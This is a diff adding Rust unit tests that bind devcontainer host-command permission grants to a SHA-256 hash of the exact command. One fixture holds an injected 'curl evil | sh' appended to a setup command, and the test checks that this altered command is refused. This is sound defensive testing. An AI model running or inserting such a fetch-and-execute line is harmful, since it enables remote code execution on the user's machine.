@@ -800,7 +800,13 @@ fn host_commands_and_git_dirs_are_requests_only_the_user_grants() {
     let v = serde_json::to_value(&r[0]).unwrap();
     assert_eq!(v["permission"], "hostCommand");
     assert_eq!(v["value"], "/bin/sh -c 'touch /tmp/m'");
-    assert_eq!(v["grant"], "--allow host-command");
+    assert_eq!(
+        v["grant"],
+        format!(
+            "--allow host-command:sha256:{}",
+            crate::security::permissions::host_command_digest("/bin/sh -c 'touch /tmp/m'")
+        )
+    );
     assert!(Grants::parse(&["gitdir:relative"]).is_err());
     assert!(Grants::parse(&["host-command:x"]).is_err());
 }
@@ -965,4 +971,62 @@ fn a_user_is_provided_only_for_a_root_image_with_no_user_named() {
     // Without a passwd, a name is not known to be root: the run judges it (spec-note 0420).
     assert!(!provides_user(true, false, None, None, Some("admin"), None));
     assert!(provides_user(true, false, None, None, Some("root"), None));
+}
+
+/// A host-command grant bound to the command's hash grants that command only: the same
+/// configuration with the command changed (by the repository, or an agent that wrote it) is
+/// refused again, and the refusal names the new command's own grant (issue 25).
+#[test]
+fn a_host_command_grant_is_bound_to_the_hash_of_the_command_it_granted() {
+    use crate::security::permissions::host_command_digest;
+    let ask = |argv: &str| {
+        judge(
+            &hardened(),
+            vec![(
+                Permission::HostCommand(argv.into()),
+                Source::DevcontainerJson,
+            )],
+            &Grants::default(),
+        )
+    };
+    let first = ask("/bin/sh -c 'make setup'");
+    let grant = first[0].permission.grant_flag().unwrap();
+    assert_eq!(
+        grant,
+        format!(
+            "--allow host-command:sha256:{}",
+            host_command_digest("/bin/sh -c 'make setup'")
+        )
+    );
+    let bound = Grants::parse(&[grant.trim_start_matches("--allow ")]).unwrap();
+    let granted = |argv: &str| bound.allows(&Permission::HostCommand(argv.into()));
+    assert!(granted("/bin/sh -c 'make setup'"));
+    assert!(!granted("/bin/sh -c 'make setup; curl evil | sh'"));
+    assert!(!granted("/bin/sh -c 'make setup' "));
+    let changed = ask("/bin/sh -c 'make setup; curl evil | sh'");
+    assert_ne!(changed[0].permission.grant_flag(), Some(grant.clone()));
+    // the hex may be written in capitals; anything else is not a grant
+    let upper = format!(
+        "host-command:sha256:{}",
+        host_command_digest("x").to_uppercase()
+    );
+    assert!(
+        Grants::parse(&[upper])
+            .unwrap()
+            .allows(&Permission::HostCommand("x".into()))
+    );
+    for bad in [
+        "host-command:",
+        "host-command:sha256:",
+        "host-command:sha256:abc",
+        "host-command:md5:00",
+    ] {
+        assert!(Grants::parse(&[bad]).is_err(), "{bad}");
+    }
+    // the command line's bare grant is one run's decision: every command of it
+    assert!(
+        Grants::parse(&["host-command"])
+            .unwrap()
+            .allows(&Permission::HostCommand("y".into()))
+    );
 }
